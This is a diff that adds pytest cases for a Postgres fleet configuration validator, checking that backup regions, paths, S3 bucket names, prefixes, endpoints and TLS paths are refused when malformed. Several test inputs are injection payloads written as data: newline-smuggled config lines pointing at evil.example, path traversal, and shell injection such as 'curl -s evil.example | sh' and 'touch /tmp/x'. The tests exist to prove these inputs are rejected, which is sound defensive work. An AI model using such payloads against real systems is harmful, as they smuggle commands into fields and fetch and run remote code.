@@ -268,3 +268,83 @@ def test_tunable_parameters_are_still_accepted() -> None:
     fleet = parse_fleet(_with_parameter("work_mem: \"it's 4MB\"\n      pg_stat_statements.max: 10000\n"
                                         "      log_min_duration_statement: 250\n      jit: false"))
     assert fleet.cluster("pg-main").parameters["work_mem"] == "it's 4MB"
+
+
+# --------------------------------------------------------------------------- backup targets and paths
+
+PG_TARGET = "{kind: local, path: /var/lib/dbfleet/backups}"
+
+
+def _with_target(target: str) -> str:
+    assert PG_TARGET in EXAMPLE
+    return EXAMPLE.replace(PG_TARGET, target, 1)
+
+
+def _target_problem(target: str, key: str) -> str:
+    err = _error(_with_target(target))
+    problems = [p for p in err.problems if p.path == f"clusters.0.backup.target.{key}"]
+    assert problems and all(p.line is not None for p in problems), str(err)
+    return " ".join(p.message for p in problems)
+
+
+@pytest.mark.parametrize("region", ['"us-east-1\\nrepo1-s3-verify-tls=n"', "moon-base-1", "us-east", "US-EAST-1",
+                                    '"us-east-1 "'])
+def test_a_backup_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
+    assert "AWS region" in _target_problem(f"{{kind: s3, bucket: acme-bk, region: {region}}}", "region")
+
+
+@pytest.mark.parametrize("region", ["us-east-1", "eu-central-1", "ap-southeast-2", "us-gov-west-1"])
+def test_aws_regions_are_accepted(region: str) -> None:
+    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, region: {region}}}").replace(
+        "region: us-east-1", f"region: {region}", 1))
+    assert fleet.cluster("pg-main").backup.target.region == region and fleet.fleet.region == region
+
+
+@pytest.mark.parametrize("path", ['"/backups\\nrepo1-host=evil.example"', "/var/lib/../../etc", "/var//backups",
+                                  "backups", "/", "/var/./backups", '"/var/back\\tups"'])
+def test_a_local_backup_path_must_be_a_normalised_absolute_path(path: str) -> None:
+    assert "path" in _target_problem(f"{{kind: local, path: {path}}}", "path")
+
+
+@pytest.mark.parametrize("bucket", ["a..b", "192.168.1.1", "xn--bucket", "ab", "a-.b", "bk-s3alias", "UPPER-case",
+                                    "-dash", "b" * 64, '"bk\\nrepo1-host=x"'])
+def test_s3_bucket_names_follow_s3s_rules(bucket: str) -> None:
+    assert "bucket" in _target_problem(f"{{kind: s3, bucket: {bucket}}}", "bucket")
+
+
+@pytest.mark.parametrize("prefix", ["a/../b", "a//b", "./a", "..", '"a\\nb"'])
+def test_an_s3_prefix_is_a_normalised_relative_key_prefix(prefix: str) -> None:
+    assert "prefix" in _target_problem(f"{{kind: s3, bucket: acme-bk, prefix: {prefix}}}", "prefix")
+
+
+def test_an_s3_prefix_is_kept_relative() -> None:
+    fleet = parse_fleet(_with_target("{kind: s3, bucket: acme-bk, prefix: /pg/main/}"))
+    assert fleet.cluster("pg-main").backup.target.prefix == "pg/main"
+
+
+@pytest.mark.parametrize("endpoint", ["http://minio:9000", "ftp://minio", "https://user:secret@minio:9000",
+                                      "https://minio:9000/bucket?x=1", '"https://minio\\nrepo1-host=x"', "https://",
+                                      "https://minio:99999", "minio:9000"])
+def test_an_s3_endpoint_must_be_https(endpoint: str) -> None:
+    assert "https" in _target_problem(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}", "endpoint")
+
+
+@pytest.mark.parametrize("endpoint", ["https://127.0.0.1:9443", "https://s3.example.internal", "https://[::1]:9000/"])
+def test_https_endpoints_are_accepted(endpoint: str) -> None:
+    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}"))
+    assert fleet.cluster("pg-main").backup.target.endpoint == endpoint
+
+
+@pytest.mark.parametrize("path", ["ca.crt", "/etc/../ca.crt", '"/etc/ca.crt\\n"', "/etc//ca.crt"])
+def test_tls_ca_paths_are_normalised_absolute_paths(path: str) -> None:
+    for key in ("ca_cert", "ca_key"):
+        text = EXAMPLE.replace("    databases: [app]\n", f"    databases: [app]\n    tls: {{{key}: {path}}}\n", 1)
+        err = _error(text)
+        assert any(p.path == f"clusters.0.tls.{key}" and "path" in p.message for p in err.problems), str(err)
+
+
+@pytest.mark.parametrize("region", ['"us-east-1; curl -s evil.example | sh"', '"us-east-1\\"; touch /tmp/x; \\""',
+                                    "mars-1"])
+def test_a_fleet_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
+    err = _error(EXAMPLE.replace("  region: us-east-1\n", f"  region: {region}\n", 1))
+    assert any(p.path == "fleet.region" and "AWS region" in p.message for p in err.problems), str(err)
